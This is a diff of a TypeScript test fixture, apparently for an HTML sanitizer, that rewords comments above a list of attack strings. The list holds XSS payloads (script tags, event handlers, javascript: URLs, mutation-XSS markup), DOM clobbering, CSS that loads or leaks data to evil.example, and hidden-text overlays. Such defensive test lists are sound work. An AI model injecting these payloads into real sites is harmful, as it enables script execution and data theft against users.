@@ -1,7 +1,7 @@
 const deep = (open: string, close: string, times: number): string =>
   `${open.repeat(times)}x${close.repeat(times)}`;
 
-/** Handlers, addresses and CSS that must not survive, put into every attribute that a document may carry. */
+/** Handlers, URLs and CSS that must not survive, inserted into every allowed attribute. */
 const payloads = [
   'javascript:alert(1)',
   '"><script>alert(1)</script>',
@@ -20,10 +20,10 @@ const inEveryAttribute: readonly string[] = attributes.flatMap((name) =>
   ),
 );
 
-/** Markup made to run, load, navigate, clobber, overlay or exhaust; one trick each. */
+/** Markup that tries to run, load, navigate, clobber, overlay or exhaust; one attack each. */
 export const attacks: readonly string[] = [
   ...inEveryAttribute,
-  // Scripts, plainly and in disguise
+  // Scripts, plain and obfuscated
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
@@ -50,7 +50,7 @@ export const attacks: readonly string[] = [
   '<audio src=x onerror=alert(1)>',
   '<body onload=alert(1)>',
   '<marquee onstart=alert(1)>x</marquee>',
-  // Addresses
+  // URLs
   '<a href="javascript:alert(1)">a</a>',
   '<a href="JaVaScRiPt:alert(1)">a</a>',
   '<a href=" &#14; javascript:alert(1)">a</a>',
@@ -92,12 +92,12 @@ export const attacks: readonly string[] = [
   '<link rel="prefetch" href="https://evil.example/x"><link rel="dns-prefetch" href="//evil.example">',
   '<style>@import url(https://evil.example/x.css)</style>',
   '<style>p{background:url(https://evil.example/x)}</style>',
-  // Clobbering
+  // DOM clobbering
   '<p id="location">a</p><img name="cookie" src="/files/a.png"><form id=document></form>',
   '<svg id="body"><path id="createElement" d="M0 0"/></svg>',
   '<a id=x name=attributes></a><a id=x name=y></a>',
   '<article class="doc" id="__proto__" data-__proto__="x"><section class="page" constructor=1></section></article>',
-  // Namespaces and mutation
+  // Namespaces and mutation XSS
   '<svg><script>alert(1)</script></svg>',
   '<svg><script href="data:text/javascript,alert(1)"/></svg>',
   '<svg><style><img src=x onerror=alert(1)></style></svg>',
@@ -157,7 +157,7 @@ export const attacks: readonly string[] = [
   '<p style="color:red</style><script>alert(1)</script>">a</p>',
   "<p style='background:ur\u006c(https://evil.example)'>a</p>",
   '<article class="doc" style="--accent:red;position:fixed;background:url(x);--x:</style><script>">a</article>',
-  // Mutation: what one parser reads otherwise than the next
+  // Mutation XSS: markup that parsers interpret differently
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
   '<svg></p><style><g title="</style><img src=x onerror=alert(1)>">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
@@ -195,7 +195,7 @@ export const attacks: readonly string[] = [
   '<svg><style>@import "https://evil.example/x.css";</style></svg>',
   '<svg><path style="fill:url(https://evil.example/#a)" d="M0 0"/></svg>',
   '<svg><metadata><script>alert(1)</script></metadata><switch><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></switch></svg>',
-  // CSS that tells, loads or covers
+  // CSS that leaks data, loads or covers
   '<p style="background:url(\'//evil.example/?leak\')">a</p>',
   '<p style="background-image:u&#x72;l(https://evil.example)">a</p>',
   '<p style="background:U\\52L(https://evil.example/x)">a</p>',
@@ -229,7 +229,7 @@ export const attacks: readonly string[] = [
   '<p style="display:none">hidden orders</p><p style="visibility:hidden;opacity:0;font-size:0">more</p>',
   '<article class="doc" style="--accent:url(https://evil.example)" data-theme="dark\'><script>">a</article>',
   '<article class="doc" style="--font-text:x;position:fixed"><section class="page" style="position:fixed;inset:0">a</section></article>',
-  // Characters that are read as others, or not at all
+  // Characters that parsers ignore or replace
   '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
   '<\u0000script>alert(1)</script>',
   '<ſcript>alert(1)</ſcript>',
